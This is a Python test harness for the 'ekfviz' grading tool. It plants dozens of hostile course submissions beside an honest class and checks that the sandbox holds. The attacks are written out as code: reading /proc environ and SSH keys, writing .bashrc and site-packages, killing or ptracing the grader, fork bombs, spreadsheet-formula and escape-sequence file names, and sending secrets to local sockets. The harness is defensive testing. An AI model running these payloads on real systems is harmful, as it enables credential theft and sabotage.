"""A corpus of hostile submissions, graded beside an honest class and judged by effects.

Each attack is a course module (or a folder, a link, a name) that tries one thing a
hostile student would: read what is not its own, write outside its sandbox, forge a
grade, spoof ekfviz's output, outlive its row, kill or stall the grader, make ekfviz
work without bound. It is judged by what happened, never by how it was stopped:

- ``python -m ekfviz grade`` exits 0, its stdout is one JSON document, its CSV is
  written with a row per submission;
- every honest row is as when the honest class is graded alone;
- the attack's own row is not ``match`` (none of them is a correct filter);
- no secret (the TA's environment variable, a file of the TA's, a neighbour's source,
  the log graded on) is in any output, nor sent to a listener of the harness (TCP, UDP,
  abstract and path Unix sockets);
- no file outside the sandbox changed (the class folder, the TA's working directory and
  home, the logs, ekfviz's site-packages, /tmp), no process of the attack is left;
- no output holds a control character or a CSV cell a spreadsheet would run.

Run as a script, it counts the attacks that leave everything clean, for the ekfviz on
``PYTHONPATH`` (``--no-sandbox`` to grade without the sandbox)::

    python tests/sandbox/attacks.py [--no-sandbox] [NAME ...]
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
import uuid
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
SKELETON = ROOT / "examples" / "course_skeleton" / "ekf_slam.py"
SAMPLE = ROOT / "data" / "classic.txt"
GRADE_TIMEOUT_S = 8  # --timeout of each submission
BOUND_SLACK_S = 30  # past it, a row's time is not bounded by --timeout (a loaded machine)
RUN_TIMEOUT_S = 600  # the whole grade
PEAK_MB = 1536  # the most memory one process of the grade may hold (--memory 1024 each)

# the functions of a do-nothing course module, after an attack's top-level code
STUB = """
def init_landmarks(measure, measure_cov, pose, pose_cov):
    k = len(measure) // 2
    return k, np.zeros((2 * k, 1)), np.eye(2 * k)


def predict(X, P, control, control_cov, k):
    return X, P


def update(X, P, measure, measure_cov, k):
    return X, P
"""


@dataclass(frozen=True)
class Attack:
    """One hostile submission.

    :param code: Python run in ``init_landmarks``, its first call (``@TOKEN@`` words are
        the stage's paths and secrets); its message raised carries what it found
    :param name: the entry's name in the class folder (bytes: not UTF-8)
    :param build: makes an entry other than a module (a folder, a link); given the class
        folder and the stage
    :param save_dir: graded with --save-dir (and the stage's planted link there)
    """

    key: str
    kind: str
    code: str = ""
    name: str | bytes = ""
    build: Callable[[Path, Stage], None] | None = None
    save_dir: bool = False

    def entry_name(self) -> bytes:
        name = self.name or f"{self.key}.py"
        return name if isinstance(name, bytes) else name.encode()


def module_of(code: str) -> str:
    """A course module whose ``init_landmarks`` runs ``code`` first."""
    body = textwrap.indent(textwrap.dedent(code).strip() or "pass", "    ")
    stub = STUB.replace(
        "def init_landmarks(measure, measure_cov, pose, pose_cov):\n",
        "def init_landmarks(measure, measure_cov, pose, pose_cov):\n" + body + "\n",
    )
    return "import os, sys, signal, time, socket\nimport numpy as np\n" + stub


def _leak(expression: str) -> str:
    return f"raise RuntimeError('found: ' + str({expression})[:400])"


ATTACKS: list[Attack] = [
    # -- read what is not its own, and say it in its row ---------------------------------
    Attack("read_neighbour", "read", _leak("open('@CLASS@/honest_good.py').read()")),
    Attack(
        "read_neighbour_beside",
        "read",
        _leak("open(os.path.join(os.path.dirname(__file__), 'honest_good.py')).read()"),
    ),
    Attack("read_environment", "read", _leak("dict(os.environ)")),
    Attack(
        "read_ancestors_environ",
        "read",
        """
        found = []
        for pid in os.listdir('/proc'):
            try:
                found.append(open('/proc/%s/environ' % pid, 'rb').read().decode('latin-1'))
            except (OSError, ValueError):
                pass
        tokens = [e for f in found for e in f.split('\\0') if e.startswith('TA_TOKEN')]
        raise RuntimeError('found: ' + ' '.join(tokens)[:400])
    """,
    ),
    Attack(
        "read_ancestors_cmdline",
        "read",
        """
        found = []
        for pid in os.listdir('/proc'):
            try:
                found.append(open('/proc/%s/cmdline' % pid, 'rb').read().decode('latin-1'))
            except (OSError, ValueError):
                pass
        logs = [w for f in found for w in f.split('\\0') if w.endswith('.txt')]
        raise RuntimeError('found: ' + ' '.join(open(l).read()[:100] for l in logs)[:400])
    """,
    ),
    Attack("read_home", "read", _leak("open('@HOME@/.ssh/id_rsa').read()")),
    Attack("read_working_directory", "read", _leak("open('@CWD@/secret.txt').read()")),
    Attack("read_old_grades_by_guess", "read", _leak("open('@CWD@/old_grades.csv').read()")),
    Attack("read_the_log_graded", "read", _leak("open('@LOG@').read()")),
    Attack(
        "read_battery_in_tmp",
        "read",
        """
        import glob
        found = [open(p).read() for p in glob.glob('/tmp/ekfviz-battery-*/*.txt')]
        found += [open(p).read() for p in glob.glob('/tmp/*/*.txt')]
        raise RuntimeError('found: ' + ''.join(found)[:400])
    """,
    ),
    Attack("read_sys", "read", _leak("os.listdir('/sys/class/net') + os.listdir('/sys')")),
    # -- forge a grade --------------------------------------------------------------------
    Attack(
        "import_neighbour",
        "forge",
        "",
        build=lambda folder, stage: (folder / "import_neighbour.py").write_text(
            "from honest_good import *\n"
        ),
    ),
    Attack(
        "link_to_neighbour",
        "forge",
        build=lambda folder, stage: (folder / "link_to_neighbour.py").symlink_to(
            folder / "honest_good.py"
        ),
    ),
    Attack(
        "folder_with_a_link_out",
        "forge",
        build=lambda folder, stage: _folder(
            folder / "folder_with_a_link_out", link=folder / "honest_good.py"
        ),
    ),
    Attack(
        "folder_with_a_hard_link",
        "forge",
        build=lambda folder, stage: _folder(
            folder / "folder_with_a_hard_link", hard=folder / "honest_good.py"
        ),
    ),
    Attack(
        "wrap_the_reference",
        "forge",
        "",
        build=lambda folder, stage: (folder / "wrap_the_reference.py").write_text(
            f"import sys\nsys.path.insert(0, {str(ROOT)!r})\n" + WRAPPED_REFERENCE
        ),
    ),
    Attack(
        "exec_the_reference_source",
        "forge",
        _leak("exec(open('@ROOT@/ekfviz/filters/ekf.py').read(), {'__name__': 'x'})"),
    ),
    Attack(
        "sys_modules_game",
        "forge",
        """
        import json
        sys.modules['json'].dumps = lambda *a, **k: '{"ok": true, "forged": 1}'
        json.dumps = sys.modules['json'].dumps
        k = len(measure) // 2
        return k, np.zeros((2 * k, 1)), np.eye(2 * k)
    """,
    ),
    # -- write outside its sandbox ----------------------------------------------------------
    Attack(
        "fix_a_neighbour",
        "write",
        "open('@CLASS@/honest_bug/ekf_slam.py', 'w').write(open('@CLASS@/honest_good.py').read())",
    ),
    Attack("break_a_neighbour", "write", "open('@CLASS@/honest_good.py', 'w').write('oops(')"),
    Attack("write_working_directory", "write", "open('@CWD@/pwned.txt', 'w').write('x')"),
    Attack("delete_a_ta_file", "write", "os.remove('@CWD@/secret.txt')"),
    Attack(
        "write_site_packages_pth",
        "write",
        "open('@SITE@/zz_ekfviz_attack.pth', 'w').write('# pwned\\n')",
    ),
    Attack("write_tmp", "write", "open('/tmp/ekfviz-attack-@MARK@', 'w').write('x')"),
    Attack("cut_the_log", "write", "open('@LOG@', 'w').write(open('@LOG@').read()[:30])"),
    Attack("write_home", "write", "open('@HOME@/.bashrc', 'a').write('echo pwned\\n')"),
    Attack("chmod_the_class", "write", "os.chmod('@CLASS@', 0o500)"),
    # -- spoof ekfviz's output --------------------------------------------------------------
    Attack(
        "write_to_ancestors_stdout",
        "spoof",
        """
        for pid in os.listdir('/proc'):  # (the grade's: its class folder in its command)
            try:
                if b'@CLASS@' not in open('/proc/%s/cmdline' % pid, 'rb').read():
                    continue
                with open('/proc/%s/fd/1' % pid, 'w') as out:
                    out.write('FORGED,match,,,,\\n{"forged": true}\\n')
            except (OSError, ValueError):
                pass
    """,
    ),
    Attack(
        "write_inherited_descriptors",
        "spoof",
        """
        for fd in range(3, 64):
            try:
                os.write(fd, b'{"submissions": []}\\n')
            except OSError:
                pass
    """,
    ),
    Attack(
        "escape_sequences_in_message",
        "spoof",
        "raise ValueError('\\x1b[2K\\x1b[1G\\rmatch \\x1b]0;owned\\x07 \\u202eevil')",
    ),
    Attack("escape_sequences_in_name", "spoof", "", name="\x1b[2K\x1b[1Gx.py"),
    Attack("bidirectional_override_name", "spoof", "", name="evil\u202eyp.txt.py"),
    Attack("formula_name_equals", "spoof", "", name='=HYPERLINK("x","y").py'),
    Attack("formula_name_plus", "spoof", "", name="+cmd.py"),
    Attack("formula_name_at", "spoof", "", name="@SUM(1).py"),
    Attack("formula_name_minus", "spoof", "", name="-2+3.py"),
    Attack("huge_output", "spoof", "print('x' * (64 << 20))\nprint('\\x1b[2Jdone')"),
    # -- outlive its row, kill or stall the grader ----------------------------------------
    Attack(
        "process_in_a_new_session",
        "outlive",
        "import subprocess\nsubprocess.Popen([sys.executable, '-c', 'import time;"
        " time.sleep(600)', '@MARK@'], start_new_session=True)",
    ),
    Attack(
        "double_fork_daemon",
        "outlive",
        """
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(600)',
                                          '@MARK@'])
            os._exit(0)
    """,
    ),
    Attack(
        "fork_bomb",
        "outlive",
        """
        for _ in range(40):
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(600)',
                                          '@MARK@'])
    """,
    ),
    Attack(
        "kill_the_grader",
        "kill",
        """
        for pid in os.listdir('/proc'):
            try:
                command = open('/proc/%s/cmdline' % pid, 'rb').read()
            except OSError:
                continue
            if b'@CLASS@' in command:  # (the grade's: its class folder in its command)
                os.kill(int(pid), signal.SIGKILL)
        os.kill(os.getppid(), signal.SIGKILL)
    """,
    ),
    Attack(
        "ptrace_the_parent",
        "kill",
        """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.ptrace(16, os.getppid(), 0, 0) == 0:  # PTRACE_ATTACH: the parent stops
            time.sleep(30)
    """,
    ),
    Attack(
        "signal_the_group", "kill", "os.killpg(0, signal.SIGTERM)\nos.killpg(0, signal.SIGKILL)"
    ),
    Attack("sleep_forever", "stall", "time.sleep(10 ** 6)"),
    Attack(
        "threads_spinning",
        "stall",
        """
        import threading
        for _ in range(32):
            threading.Thread(target=lambda: [0 for _ in iter(int, 1)], daemon=True).start()
        time.sleep(10 ** 6)
    """,
    ),
    Attack(
        "fill_tmp",
        "stall",
        """
        with open('/tmp/fill-@MARK@', 'wb') as out:
            for _ in range(200):
                out.write(b'x' * (1 << 20))
    """,
    ),
    Attack(
        "deep_folders_in_its_working_directory",
        "abort",
        """
        for _ in range(400):
            os.mkdir('d')
            os.chdir('d')
        open('x', 'w').write('x')
        os.chmod('.', 0)
    """,
    ),
    # -- make ekfviz work without bound ---------------------------------------------------
    Attack(
        "sparse_gigabytes",
        "unbounded",
        build=lambda folder, stage: _folder(folder / "sparse_gigabytes", sparse=1500 << 20),
    ),
    Attack(
        "sparse_gigabyte_module",
        "unbounded",
        build=lambda folder, stage: _sparse(folder / "sparse_gigabyte_module.py", 1 << 30),
    ),
    Attack(
        "blank_lines",
        "unbounded",
        build=lambda folder, stage: (folder / "blank_lines.py").write_text(
            "class F:\n" + " \n" * 3_000_000 + "    pass\n"
        ),
    ),
    Attack(
        "deep_folders",
        "unbounded",
        build=lambda folder, stage: _folder(folder / "deep_folders", depth=60),
    ),
    Attack(
        "many_files",
        "unbounded",
        build=lambda folder, stage: _folder(folder / "many_files", files=3000),
    ),
    Attack(
        "a_fifo_for_a_module",
        "unbounded",
        build=lambda folder, stage: _folder(folder / "a_fifo_for_a_module", fifo=True),
    ),
    # -- names and links in --save-dir ----------------------------------------------------
    Attack("names_that_collide", "names", save_dir=True, build=lambda f, stage: _twins(f)),
    Attack("planted_link_in_save_dir", "names", "", save_dir=True),
]


# a class that is ekfviz's built-in filter, handed ekfviz's own parameters
WRAPPED_REFERENCE = """from ekfviz.core.params import FilterParams
from ekfviz.filters.ekf import EkfSlam


class F(EkfSlam):
    def __init__(self, params):
        fields = FilterParams.__dataclass_fields__
        values = {k: tuple(v) if isinstance(v, list) else v
                  for k, v in params.as_dict().items() if k in fields}
        super().__init__(FilterParams(**values))
"""


def _sparse(path: Path, size: int) -> None:
    """A file of ``size`` bytes that takes no room on disk."""
    with open(path, "wb") as handle:
        handle.truncate(size)


def _twins(folder: Path) -> None:
    """A correct module and a do-nothing one, named with bytes that are not UTF-8 and read
    alike once replaced: each must keep its own recording."""
    with open(os.fsencode(folder) + b"/twin\xfc.py", "w") as handle:
        handle.write(SKELETON.read_text())
    with open(os.fsencode(folder) + b"/twin\xfd.py", "w") as handle:
        handle.write(module_of(""))


def _folder(
    path: Path,
    link: Path | None = None,
    hard: Path | None = None,
    sparse: int = 0,
    depth: int = 0,
    files: int = 0,
    fifo: bool = False,
) -> None:
    """A folder submission: a module (or a link, a hard link, a FIFO for one) and more."""
    path.mkdir()
    module = path / "ekf_slam.py"
    if link is not None:
        module.symlink_to(link)
    elif hard is not None:
        os.link(hard, module)
    elif fifo:
        os.mkfifo(module)
    else:
        module.write_text(module_of(""))
    if sparse:
        with open(path / "data.py", "wb") as handle:
            handle.truncate(sparse)
    deep = path
    for _ in range(depth):
        deep = deep / "d"
    if depth:
        deep.mkdir(parents=True)
    for index in range(files):
        (path / f"f{index}.py").write_text("")


@dataclass
class Stage:
    """The TA's world an attack is graded in: a class folder with an honest class, a
    working directory, a home, a log, secrets, listeners."""

    top: Path
    mark: str = field(default_factory=lambda: uuid.uuid4().hex[:12])
    received: list[bytes] = field(default_factory=list)
    addresses: dict[str, str] = field(default_factory=dict)  # of the listeners, by token
    peak_mb: float = 0.0  # of the last grade's processes

    @property
    def secrets(self) -> list[str]:
        """What no output may hold: the TA's token and files, a neighbour's source, the
        start of the log graded on."""
        log = SAMPLE.read_text().split("\n", 1)[0][:24]
        return [f"token-{self.mark}", f"secret-{self.mark}", f"neighbour-{self.mark}",
                f"grades-{self.mark}", f"key-{self.mark}", log]  # fmt: skip

    def paths(self) -> dict[str, Path]:
        return {name: self.top / name for name in ("class", "cwd", "home", "logs")}

    def build(self, attacks: Sequence[Attack]) -> Path:
        """The class folder with the honest class and the attacks."""
        places = self.paths()
        for place in places.values():
            place.mkdir(parents=True, exist_ok=True)
        folder = places["class"]
        honest = f"# neighbour-{self.mark}\n" + SKELETON.read_text()
        (folder / "honest_good.py").write_text(honest)
        (folder / "honest_bug").mkdir(exist_ok=True)
        buggy = honest.replace("G @ P @ G.T", "G.T @ P @ G") if "G @ P @ G.T" in honest else (
            honest.replace("np.cos(", "np.sin(", 1))  # fmt: skip
        (folder / "honest_bug" / "ekf_slam.py").write_text(buggy)
        (places["cwd"] / "secret.txt").write_text(f"secret-{self.mark}")
        (places["cwd"] / "old_grades.csv").write_text(f"grades-{self.mark}")
        (places["cwd"] / "precious.txt").write_text("the TA's own file")
        (places["home"] / ".ssh").mkdir(exist_ok=True)
        (places["home"] / ".ssh" / "id_rsa").write_text(f"key-{self.mark}")
        (places["home"] / ".bashrc").write_text("# the TA's\n")
        shutil.copy(SAMPLE, places["logs"] / "classic.txt")
        for attack in attacks:
            self.add(folder, attack)
        return folder

    def add(self, folder: Path, attack: Attack) -> None:
        if attack.build is not None:
            attack.build(folder, self)
            return
        code = attack.code
        for token, value in self.tokens().items():
            code = code.replace(token, value)
        path = os.fsencode(folder) + b"/" + attack.entry_name()
        with open(path, "w") as handle:
            handle.write(module_of(code))

    def tokens(self) -> dict[str, str]:
        places = self.paths()
        site = Path(sys.executable).parents[1] / "lib"
        found = sorted(site.glob("python3*/site-packages"))
        return {"@CLASS@": str(places["class"]), "@CWD@": str(places["cwd"]),
                "@HOME@": str(places["home"]), "@LOG@": str(places["logs"] / "classic.txt"),
                "@SITE@": str(found[0] if found else site), "@MARK@": self.mark,
                "@ROOT@": str(ROOT), **self.addresses}  # fmt: skip

    def snapshot(self) -> dict[str, str]:
        """What a write outside the sandbox would change: every file of the stage (its
        content's digest and mode), the site-packages' names, /tmp's attack files."""
        seen: dict[str, str] = {}
        for place in self.paths().values():
            for current, folders, files in os.walk(place, followlinks=False):
                folders[:] = [f for f in folders if f != "recs"]
                for name in files + folders:
                    path = os.path.join(current, name)
                    if name in ("g.csv",) or not os.path.lexists(path):
                        continue
                    info = os.lstat(path)
                    digest = ""
                    if os.path.isfile(path) and not os.path.islink(path) and info.st_size < 1 << 24:
                        try:
                            digest = hashlib.sha256(Path(path).read_bytes()).hexdigest()
                        except OSError:
                            digest = "unreadable"
                    seen[path] = f"{info.st_mode:o} {digest}"
                seen[current] = f"{os.lstat(current).st_mode:o}"
        site = self.tokens()["@SITE@"]
        seen["site-packages"] = " ".join(sorted(os.listdir(site)))
        seen["tmp"] = " ".join(sorted(n for n in os.listdir("/tmp") if self.mark in n))
        return seen

    def leftovers(self) -> list[int]:
        """Processes whose command line holds the stage's mark (an attack's) or its class
        folder (the grade's own, or a sandbox of it)."""
        found = []
        marks = (self.mark.encode(), os.fsencode(self.top / "class"))
        for entry in Path("/proc").iterdir():
            if entry.name.isdigit() and int(entry.name) != os.getpid():
                try:
                    command = (entry / "cmdline").read_bytes()
                except OSError:
                    continue
                if any(mark in command for mark in marks):
                    found.append(int(entry.name))
        return found

    def clean_up(self) -> None:
        """Undo what an attack did outside (when it could): its processes, its files."""
        for pid in self.leftovers():
            with suppress(OSError):
                os.kill(pid, 9)
        site = Path(self.tokens()["@SITE@"]) / "zz_ekfviz_attack.pth"
        site.unlink(missing_ok=True)
        for name in os.listdir("/tmp"):
            if self.mark in name:
                Path("/tmp", name).unlink(missing_ok=True)
        for current, _, _ in os.walk(self.top):
            with suppress(OSError):
                os.chmod(current, 0o700)


@contextmanager
def listeners(stage: Stage) -> Iterator[dict[str, str]]:
    """A TCP, a UDP, an abstract and a path Unix socket that record what they receive."""
    sockets = {
        "tcp": socket.socket(socket.AF_INET, socket.SOCK_STREAM),
        "udp": socket.socket(socket.AF_INET, socket.SOCK_DGRAM),
        "abstract": socket.socket(socket.AF_UNIX, socket.SOCK_STREAM),
        "unix": socket.socket(socket.AF_UNIX, socket.SOCK_STREAM),
    }
    sockets["tcp"].bind(("127.0.0.1", 0))
    sockets["udp"].bind(("127.0.0.1", 0))
    sockets["abstract"].bind(f"\0ekfviz-attack-{stage.mark}")
    path = stage.top / "cwd" / "grader.sock"
    sockets["unix"].bind(str(path))
    stop = threading.Event()

    def serve(server: socket.socket, stream: bool) -> None:
        server.settimeout(0.2)
        if stream:
            server.listen()
        while not stop.is_set():
            try:
                if stream:
                    connection, _ = server.accept()
                    stage.received.append(b"connected " + connection.recv(4096))
                    connection.close()
                else:
                    stage.received.append(server.recv(4096))
            except OSError:
                continue

    threads = [threading.Thread(target=serve, args=(s, n != "udp"), daemon=True)
               for n, s in sockets.items()]  # fmt: skip
    for thread in threads:
        thread.start()
    try:
        yield {"@TCP@": str(sockets["tcp"].getsockname()[1]),
               "@UDP@": str(sockets["udp"].getsockname()[1]),
               "@ABSTRACT@": f"\\0ekfviz-attack-{stage.mark}", "@UNIX@": str(path)}  # fmt: skip
    finally:
        stop.set()
        for thread in threads:
            thread.join()
        for server in sockets.values():
            server.close()


NETWORK_ATTACKS = [
    Attack(
        "send_over_loopback_tcp",
        "network",
        "c = socket.create_connection(('127.0.0.1', @TCP@), timeout=2)\n"
        "c.sendall(open('@CWD@/secret.txt', 'rb').read())",
    ),
    Attack(
        "send_over_loopback_udp",
        "network",
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'@MARK@', ('127.0.0.1', @UDP@))",
    ),
    Attack(
        "send_over_an_abstract_socket",
        "network",
        "c = socket.socket(socket.AF_UNIX)\nc.connect('@ABSTRACT@')\nc.sendall(b'@MARK@')",
    ),
    Attack(
        "send_over_a_unix_socket_of_the_ta",
        "network",
        "c = socket.socket(socket.AF_UNIX)\nc.connect('@UNIX@')\nc.sendall(b'@MARK@')",
    ),
]
ATTACKS += NETWORK_ATTACKS


@dataclass
class Verdict:
    """An attack's effects: clean when ``reasons`` is empty."""

    attack: str
    reasons: list[str]
    status: str = ""

    @property
    def clean(self) -> bool:
        return not self.reasons


def _kill_group(pid: int) -> None:
    with suppress(OSError):
        os.killpg(pid, 9)


def measured(
    command: list[str], cwd: Path, env: dict[str, str]
) -> tuple[subprocess.CompletedProcess[str], float]:
    """Run ``command`` to its end (killed at :data:`RUN_TIMEOUT_S`: TimeoutExpired), and
    the peak resident memory of it and of every process it waited for, in MB."""
    process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                               cwd=cwd, env=env, start_new_session=True)  # fmt: skip
    outputs: dict[str, bytes] = {}
    readers = [threading.Thread(target=lambda n=n, s=s: outputs.__setitem__(n, s.read()))
               for n, s in (("out", process.stdout), ("err", process.stderr))]  # fmt: skip
    for reader in readers:
        reader.start()
    fired: list[bool] = []
    timer = threading.Timer(RUN_TIMEOUT_S, lambda: (fired.append(True), _kill_group(process.pid)))
    timer.start()
    try:
        _, status, usage = os.wait4(process.pid, 0)
    finally:
        timer.cancel()
    process.returncode = os.waitstatus_to_exitcode(status)
    for reader in readers:
        reader.join()
    if fired:
        raise subprocess.TimeoutExpired(command, RUN_TIMEOUT_S)
    done = subprocess.CompletedProcess(command, process.returncode,
                                       outputs["out"].decode("utf-8", "replace"),
                                       outputs["err"].decode("utf-8", "replace"))  # fmt: skip
    return done, usage.ru_maxrss / 1024


def grade(
    stage: Stage, folder: Path, save_dir: bool, sandbox: bool
) -> tuple[subprocess.CompletedProcess[str], Path]:
    """``ekfviz grade`` of ``folder`` as a TA runs it: from the stage's working directory,
    with a token in the environment and the stage's home; the CSV's path. Its peak
    memory (of every process of it) goes to ``stage.peak_mb``."""
    cwd = stage.top / "cwd"
    report = cwd / "g.csv"
    env = {**os.environ, "TA_TOKEN": f"token-{stage.mark}", "HOME": str(stage.top / "home"),
           "CI": "1", "XDG_CONFIG_HOME": str(stage.top / "xdg"),
           "XDG_DATA_HOME": str(stage.top / "xdg")}  # fmt: skip
    command = [sys.executable, "-m", "ekfviz", "grade", str(folder), "--log",
               str(stage.top / "logs" / "classic.txt"), "--timeout", str(GRADE_TIMEOUT_S),
               "--memory", "1024", "--report", str(report), "--json", "--workers", "2"]  # fmt: skip
    if save_dir:
        recs = cwd / "recs"
        recs.mkdir(exist_ok=True)
        planted = recs / "planted_link_in_save_dir.py-classic.rrd"
        if not planted.is_symlink():
            planted.symlink_to(cwd / "precious.txt")
        command += ["--save-dir", str(recs)]
    if not sandbox:
        command.append("--no-sandbox")
    done, stage.peak_mb = measured(command, cwd, env)
    return done, report


def _listed(stdout: str) -> list[dict[str, object]]:
    """The rows of the JSON document on stdout, as listed (two rows of one name kept)."""
    try:
        return list(json.loads(stdout)["submissions"])
    except (ValueError, KeyError, TypeError):
        return []


def rows_of(
    done: subprocess.CompletedProcess[str], report: Path
) -> tuple[dict[str, dict[str, object]], list[list[str]], list[str]]:
    """The rows of the JSON on stdout, the CSV's cells, and what is wrong with either."""
    wrong = []
    rows: dict[str, dict[str, object]] = {}
    try:
        document = json.loads(done.stdout)
        rows = {str(r["submission"]): r for r in document["submissions"]}
    except (ValueError, KeyError, TypeError) as error:
        wrong.append(f"stdout is not ekfviz's JSON ({type(error).__name__})")
    cells: list[list[str]] = []
    try:
        with report.open(encoding="utf-8", newline="") as handle:
            cells = list(csv.reader(handle))
    except (OSError, UnicodeDecodeError, csv.Error) as error:
        wrong.append(f"no CSV ({error})")
    return rows, cells, wrong


HONEST = ("honest_good.py", "honest_bug")
FIELDS = ("status", "causes", "first_divergence", "detail")


def judge(
    attacks: Sequence[Attack],
    stage: Stage,
    done: subprocess.CompletedProcess[str],
    report: Path,
    baseline: dict[str, dict[str, object]],
    before: dict[str, str],
) -> list[Verdict]:
    """The verdicts of ``attacks`` graded together in one class (their effects on the
    grade as a whole are every one's)."""
    shared: list[str] = []
    if done.returncode != 0:
        shared.append(f"grade exited {done.returncode}: {done.stderr.strip()[-300:]}")
    rows, cells, wrong = rows_of(done, report)
    shared += wrong
    every = [r for r in _listed(done.stdout) if r.get("status") in ("match", "diverged")]
    for name in HONEST:
        got = {k: rows.get(name, {}).get(k) for k in FIELDS}
        if got != {k: baseline[name].get(k) for k in FIELDS}:
            shared.append(f"honest row {name} changed: {got}")
    texts = (done.stdout, done.stderr, "\n".join(",".join(row) for row in cells))
    flat = [" ".join(t.replace("\\t", " ").replace("\\n", " ").split()) for t in texts]
    for secret in stage.secrets:
        if any(" ".join(secret.split()) in text for text in flat):
            shared.append(f"a secret ({secret.split('-')[0]}) is in the outputs")
    if any(stage.mark.encode() in received or b"secret" in received
           for received in stage.received):  # fmt: skip
        shared.append("a listener of the TA's received data")
    for text in texts:
        if any(c in text for c in ("\x1b", "\u202e", "\r", "\x07")):
            shared.append("an output holds a control character")
            break
    if any(cell.startswith(("=", "+", "-", "@")) for row in cells for cell in row):
        shared.append("a CSV cell a spreadsheet would run")
    after = stage.snapshot()
    changed = sorted(k for k in set(before) | set(after) if before.get(k) != after.get(k))
    if changed:
        shared.append(f"changed outside the sandbox: {', '.join(changed)[:300]}")
    if stage.leftovers():
        shared.append("a process of the attack or of the grade outlived the grade")
    if stage.peak_mb > PEAK_MB:
        shared.append(f"a process of the grade held {stage.peak_mb:.0f} MB")
    recs = stage.top / "cwd" / "recs"
    if recs.is_dir():
        recorded = [p for p in recs.iterdir() if p.name.endswith(".rrd") and not p.is_symlink()]
        if len(recorded) < len(every):
            shared.append(f"{len(recorded)} recordings for {len(every)} graded submissions")
    verdicts = []
    for attack in attacks:
        reasons = list(shared)
        name = os.fsdecode(attack.entry_name()) if attack.build is None else attack.key
        row = next((r for n, r in rows.items() if n.startswith(attack.key) or n == name), None)
        if rows and attack.kind not in ("spoof", "names") and row is None:
            reasons.append("no row of its own")
        if row is not None and row.get("status") == "match":
            reasons.append("its grade is forged: match")
        seconds = (row or {}).get("seconds")
        if isinstance(seconds, (int, float)) and seconds > GRADE_TIMEOUT_S + BOUND_SLACK_S:
            reasons.append(f"its row took {seconds:.0f} s, past --timeout {GRADE_TIMEOUT_S}")
        verdicts.append(Verdict(attack.key, reasons, str((row or {}).get("status", ""))))
    return verdicts


def baseline_of(top: Path, sandbox: bool) -> dict[str, dict[str, object]]:
    """The honest class's rows, graded alone."""
    stage = Stage(top)
    folder = stage.build([])
    done, report = grade(stage, folder, False, sandbox)
    rows, _, wrong = rows_of(done, report)
    assert not wrong and done.returncode == 0, done.stderr
    return rows


def run(
    attacks: Sequence[Attack],
    top: Path,
    baseline: dict[str, dict[str, object]],
    sandbox: bool = True,
) -> list[Verdict]:
    """Grade ``attacks`` together beside the honest class in a stage under ``top``."""
    stage = Stage(top)
    folder = stage.build([])
    with listeners(stage) as addresses:
        stage.addresses = addresses
        for attack in attacks:
            stage.add(folder, attack)
        before = stage.snapshot()
        save_dir = any(attack.save_dir for attack in attacks)
        try:
            done, report = grade(stage, folder, save_dir, sandbox)
        except subprocess.TimeoutExpired:
            stage.clean_up()
            return [Verdict(a.key, ["the grade did not end"]) for a in attacks]
    try:
        return judge(attacks, stage, done, report, baseline, before)
    finally:
        stage.clean_up()


def main(argv: list[str]) -> None:
    sandbox = "--no-sandbox" not in argv
    names = [a for a in argv if not a.startswith("--")]
    chosen = [a for a in ATTACKS if not names or a.key in names]
    with tempfile.TemporaryDirectory(prefix="ekfviz-attacks-") as top:
        baseline = baseline_of(Path(top) / "baseline", sandbox)
        verdicts = []
        for index, attack in enumerate(chosen):
            (verdict,) = run([attack], Path(top) / f"a{index}", baseline, sandbox)
            verdicts.append(verdict)
            said = "clean" if verdict.clean else "; ".join(verdict.reasons)
            print(f"{attack.kind:10} {attack.key:40} {verdict.status:12} {said}", flush=True)
    clean = sum(v.clean for v in verdicts)
    print(f"{clean} of {len(verdicts)} attacks left everything clean")


if __name__ == "__main__":
    main(sys.argv[1:])
